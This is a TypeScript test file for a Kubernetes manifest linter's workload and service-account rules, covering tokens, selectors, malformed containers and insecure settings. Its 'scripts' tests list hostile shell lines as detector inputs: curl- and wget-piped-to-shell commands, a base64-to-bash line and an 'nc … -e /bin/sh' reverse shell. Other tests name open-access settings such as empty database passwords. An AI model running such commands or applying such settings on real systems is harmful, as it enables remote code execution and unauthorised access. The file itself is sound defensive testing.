/** What rules about workloads and service accounts say of whole, partial, contradicting and broken objects, and of several files together. */

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findingsOf, openWorkspace } from './harness/workspace.ts';
import { rules } from '../rules/index.ts';

const OWN = rules.filter(it => /^(?:workload|service-account)\//.test(it.id));

/** Ids without area, of all findings or of those of some rules. */
function found(files: Readonly<Record<string, string>> | string, ...only: string[]): string[] {
  const texts = typeof files === 'string' ? { 'a.yaml': files } : files;
  const chosen = only.length ? OWN.filter(it => only.some(id => it.id.endsWith(`/${id}`))) : OWN;
  assert.ok(chosen.length >= Math.max(1, only.length), only.join());
  return findingsOf(openWorkspace(chosen, texts), Object.keys(texts)).map(it => it.rule.slice(it.rule.indexOf('/') + 1));
}

const pod = (spec: string, metadata = '{name: web, namespace: shop}'): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: ${metadata}\nspec:\n${spec.replace(/^/gm, '  ')}\n`;
const container = (fields: string): string => pod(`containers:\n  - {name: app, image: 'registry.example/app:1', ${fields}}`);
const deployment = (selector: string, labels: string): string =>
  `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  selector: ${selector}\n  template:\n    metadata: ${labels}\n    spec:\n      containers: [{name: app, image: 'registry.example/app:1'}]\n`;
const account = (name: string, namespace: string, rest = ''): string =>
  `apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: ${name}${namespace && `, namespace: ${namespace}`}}\n${rest}\n`;

const OPTED_OUT = 'automountServiceAccountToken: false';

describe('fragments never lack anything', () => {
  const fragments: Readonly<Record<string, string>> = {
    'a patch of a kustomization':
      'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {template: {spec: {containers: [{name: app, env: []}]}}}\n',
    'a workload without containers':
      'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {selector: {matchLabels: {app: web}}, template: {metadata: {labels: {app: web}}, spec: {}}}\n',
    'a list of containers from a template': pod('containers:\n  {{- toYaml .Values.containers | nindent 4 }}'),
  };
  for (const [title, text] of Object.entries(fragments)) {
    it(title, () => assert.deepEqual(found(text), []));
  }
  it('resources, probes and accounts from a template', () => {
    const text = pod(
      'serviceAccountName: {{ .Values.account }}\ncontainers:\n  - name: app\n    image: a:1\n    {{- with .Values.resources }}\n    resources: {{- toYaml . | nindent 6 }}\n    {{- end }}',
    );
    assert.deepEqual(found(text, 'require-cpu-limit', 'require-memory-request', 'no-default-account', 'no-unasked-token'), []);
  });
  it('what a kustomization names as a patch', () => {
    const files = {
      'kustomization.yaml': 'resources: [base.yaml]\npatches: [{path: patch.yaml}]\n',
      'patch.yaml': deployment('{matchLabels: {app: web}}', '{labels: {app: other}}'),
    };
    assert.deepEqual(found(files), []);
  });
});

describe('tokens', () => {
  const cases: readonly (readonly [string, string, readonly string[]])[] = [
    ['a pod that names no account', pod('containers: [{name: a, image: a:1}]'), ['no-default-account']],
    ['an empty name counts as none', pod('serviceAccountName: ""\ncontainers: [{name: a, image: a:1}]'), ['no-default-account']],
    ['no token asked for', pod(`${OPTED_OUT}\ncontainers: [{name: a, image: a:1}]`), []],
    ['no token asked for, YAML 1.1', pod('automountServiceAccountToken: off\ncontainers: [{name: a, image: a:1}]'), []],
    ['text in the place of a boolean', pod('automountServiceAccountToken: "false"\ncontainers: [{name: a, image: a:1}]'), []],
    ['a number in the place of a name', pod('serviceAccountName: 5\ncontainers: [{name: a, image: a:1}]'), []],
    [
      'an account by the old name of the field',
      pod('serviceAccount: web\ncontainers: [{name: a, image: a:1}]'),
      ['no-unasked-token', 'no-deprecated-field'],
    ],
    [
      'an old name behind a template',
      pod('serviceAccountName: {{ .Values.account }}\nserviceAccount: web\ncontainers: [{name: a, image: a:1}]'),
      [],
    ],
    [
      'a static Pod of the control plane',
      pod('hostNetwork: true\ncontainers: [{name: a, image: a:1}]', '{name: vip, namespace: kube-system}'),
      [],
    ],
    [
      'with a byte order mark and CRLF',
      `\uFEFF${pod('containers: [{name: a, image: a:1}]').replaceAll('\n', '\r\n')}`,
      ['no-default-account'],
    ],
    [
      'in JSON',
      JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'a' }, spec: { containers: [{ name: 'a', image: 'a:1' }] } }),
      ['no-default-account'],
    ],
  ];
  const only = ['no-default-account', 'no-unasked-token', 'no-deprecated-field', 'no-contradicting-account'];
  for (const [title, text, expected] of cases) it(title, () => assert.deepEqual(found(text, ...only).sort(), [...expected].sort()));

  const web = pod('serviceAccountName: web\ncontainers: [{name: a, image: a:1}]');
  const across: readonly (readonly [string, string, readonly string[]])[] = [
    ['the account keeps its token', account('web', 'shop', OPTED_OUT), []],
    ['an account without namespace may be that one', account('web', '', OPTED_OUT), []],
    ['an account of another namespace is another', account('web', 'stock', OPTED_OUT), ['no-unasked-token']],
    ['another account', account('api', 'shop', OPTED_OUT), ['no-unasked-token']],
    ['the account says nothing', account('web', 'shop'), ['no-unasked-token']],
    ['the account says something that cannot be told', account('web', 'shop', 'automountServiceAccountToken: {{ .Values.mount }}'), []],
  ];
  for (const [title, text, expected] of across) {
    it(title, () =>
      assert.deepEqual(found({ 'web.yaml': web, 'accounts.yaml': text }, 'no-unasked-token', 'no-default-account'), expected),
    );
  }
  it('is judged anew when the account changes', () => {
    const workspace = openWorkspace(
      OWN.filter(it => it.id === 'service-account/no-unasked-token'),
      { 'web.yaml': web },
    );
    assert.equal(findingsOf(workspace, ['web.yaml']).length, 1);
    workspace.set('accounts.yaml', account('web', 'shop', OPTED_OUT));
    assert.equal(findingsOf(workspace, ['web.yaml']).length, 0);
    workspace.set('accounts.yaml', account('web', 'shop', 'automountServiceAccountToken: true'));
    assert.equal(findingsOf(workspace, ['web.yaml']).length, 1);
  });
  it('misses an account only where accounts are defined', () => {
    assert.deepEqual(found({ 'a/web.yaml': web, 'a/accounts.yaml': account('api', 'shop') }, 'no-missing-account'), ['no-missing-account']);
    assert.deepEqual(found({ 'a/web.yaml': web, 'b/accounts.yaml': account('api', 'shop') }, 'no-missing-account'), []);
    assert.deepEqual(found({ 'a/web.yaml': web, 'a/accounts.yaml': account('web', 'shop') }, 'no-missing-account'), []);
  });
  it('notices when an account comes', () => {
    const files = { 'web.yaml': web, 'accounts.yaml': account('api', 'shop') };
    const workspace = openWorkspace(
      OWN.filter(it => it.id === 'service-account/no-missing-account'),
      files,
    );
    assert.equal(findingsOf(workspace, ['web.yaml']).length, 1);
    workspace.set('more.yaml', account('web', 'shop'));
    assert.equal(findingsOf(workspace, ['web.yaml']).length, 0);
  });
  it('spares what the API server projects', () => {
    const sources = '[{serviceAccountToken: {path: token, expirationSeconds: 3607}}, {configMap: {name: kube-root-ca.crt}}]';
    assert.deepEqual(
      found(pod(`volumes: [{name: t, projected: {sources: ${sources}}}]\ncontainers: [{name: a, image: a:1}]`), 'require-token-audience'),
      [],
    );
  });
});

describe('selectors, as the API server compares them', () => {
  const cases: readonly (readonly [string, string, string, number])[] = [
    ['equal', '{matchLabels: {app: web}}', '{labels: {app: web, tier: x}}', 0],
    ['another value', '{matchLabels: {app: web}}', '{labels: {app: api}}', 1],
    ['no labels at all', '{matchLabels: {app: web}}', '{}', 1],
    ['a template for labels', '{matchLabels: {app: web}}', '{labels: {{ .Values.labels }}}', 0],
    ['a template for a value', '{matchLabels: {app: {{ .Values.app }}}}', '{labels: {app: web}}', 0],
    ['a number is refused by its type', '{matchLabels: {app: 5}}', '{labels: {app: "5"}}', 0],
    ['merged labels', '{matchLabels: {app: web}}', '{labels: {<<: {app: web}}}', 0],
    ['in', '{matchExpressions: [{key: app, operator: In, values: [web, api]}]}', '{labels: {app: api}}', 0],
    ['not in', '{matchExpressions: [{key: app, operator: In, values: [web]}]}', '{labels: {app: api}}', 1],
    ['excluded', '{matchExpressions: [{key: app, operator: NotIn, values: [api]}]}', '{labels: {app: api}}', 1],
    ['absent is not excluded', '{matchExpressions: [{key: app, operator: NotIn, values: [api]}]}', '{labels: {x: y}}', 0],
    ['present and must not be', '{matchExpressions: [{key: app, operator: DoesNotExist}]}', '{labels: {app: api}}', 1],
    ['an operator that is not known', '{matchExpressions: [{key: app, operator: Near, values: [x]}]}', '{labels: {app: api}}', 0],
    ['expressions of the wrong type', '{matchExpressions: {key: app}}', '{labels: {app: api}}', 0],
  ];
  for (const [title, selector, labels, count] of cases) {
    it(title, () => assert.equal(found(deployment(selector, labels), 'require-matching-selector').length, count));
  }
});

describe('containers of odd shapes', () => {
  const cases: readonly (readonly [string, string, readonly string[]])[] = [
    ['no name', pod('containers: [{image: a:1}]'), ['require-cpu-limit']],
    ['text and nothing in the list', pod('containers: [text, null, {name: a, image: a:1, resources: {limits: {cpu: 1}}}]'), []],
    ['resources of the wrong type', container('resources: none'), []],
    ['limits of the wrong type', container('resources: {limits: [cpu]}'), []],
    ['an empty mapping', container('resources: {}'), ['require-cpu-limit']],
    ['null', container('resources: null'), ['require-cpu-limit']],
    ['a null limit', container('resources: {limits: {cpu: null}}'), ['require-cpu-limit']],
    ['a negative limit is one, and refused', container('resources: {limits: {cpu: -1}}'), []],
    ['a limit of the pod', pod('resources: {limits: {cpu: 1}}\ncontainers: [{name: a, image: a:1}]'), []],
    ['commands of the wrong type', container('command: "curl x | sh", args: {a: b}'), ['require-cpu-limit']],
    ['an environment of the wrong type', container('env: {A: b}, envFrom: 5'), ['require-cpu-limit']],
    ['ports as text', container('ports: ["22", {containerPort: "22"}]'), ['require-cpu-limit']],
    ['a port of a name that is none', container('livenessProbe: {httpGet: {port: 80}}, ports: 80'), ['require-cpu-limit']],
  ];
  const only = [
    'require-cpu-limit',
    'no-remote-script',
    'no-ssh-port',
    'no-undeclared-probe-port',
    'no-duplicate-variable',
    'no-open-program',
  ];
  for (const [title, text, expected] of cases) it(title, () => assert.deepEqual(found(text, ...only), expected));
});

describe('scripts', () => {
  const bad = [
    'curl -s https://x.example | sh',
    'set -e; wget -qO- https://x.example/i.sh | sudo -E bash -s -- --fast',
    'apk add curl && curl https://x.example |\\\n  bash',
    'eval "$(curl -s https://x.example)"',
    'if true; then curl https://x.example | tee /tmp/x | sh; fi',
    'echo aWQ= | base64 --decode | bash',
    'nc 192.0.2.7 4444 -e /bin/sh',
  ];
  const good = [
    'curl -s https://x.example > /tmp/x',
    'curl -s https://x.example | jq .sh',
    'echo "curl https://x.example | sh"',
    '# curl https://x.example | sh',
    'curl https://x.example || sh fallback.sh',
    'cat script | sh',
    'base64 -d key > /tmp/key; sh start.sh',
    'nc -z db 5432',
    'while ! </dev/tcp/db/5432; do sleep 1; done',
  ];
  const script = (text: string): string[] =>
    found(pod(`containers:\n  - name: a\n    image: a:1\n    command: [sh, -c, ${JSON.stringify(text)}]`), 'no-remote-script');
  for (const text of bad) it(`names ${text}`, () => assert.deepEqual(script(text), ['no-remote-script']));
  for (const text of good) it(`leaves alone ${text}`, () => assert.deepEqual(script(text), []));
  it('takes its time with no text', () => {
    const started = performance.now();
    for (const text of ['curl '.repeat(40_000), 'x=1 '.repeat(50_000), '| sh -c "$('.repeat(20_000), `nc ${'-e '.repeat(50_000)}`])
      script(text);
    assert.ok(performance.now() - started < 5_000);
  });
});

describe('settings that let everybody in', () => {
  const cases: readonly (readonly [string, string, number])[] = [
    ['a value that turns it off', 'env: [{name: GF_AUTH_ANONYMOUS_ENABLED, value: "false"}]', 0],
    ['a value from elsewhere', 'env: [{name: GF_AUTH_ANONYMOUS_ENABLED, valueFrom: {configMapKeyRef: {name: a, key: b}}}]', 0],
    [
      'the last of two counts',
      'env: [{name: GF_AUTH_ANONYMOUS_ENABLED, value: "true"}, {name: GF_AUTH_ANONYMOUS_ENABLED, value: "false"}]',
      0,
    ],
    ['an empty password', 'env: [{name: MYSQL_ALLOW_EMPTY_PASSWORD, value: "1"}]', 1],
    [
      'a password that may come from a Secret',
      'env: [{name: MYSQL_ALLOW_EMPTY_PASSWORD, value: "1"}], envFrom: [{secretRef: {name: db}}]',
      0,
    ],
    ['a file may hold the password', 'command: [redis-server, /etc/redis.conf, --protected-mode, "no"]', 0],
    ['Jupyter with a password', `command: [sh, -c, "jupyter lab --ServerApp.token='' --ServerApp.password=argon2"]`, 0],
  ];
  for (const [title, fields, count] of cases) it(title, () => assert.equal(found(container(fields), 'no-open-program').length, count));
});
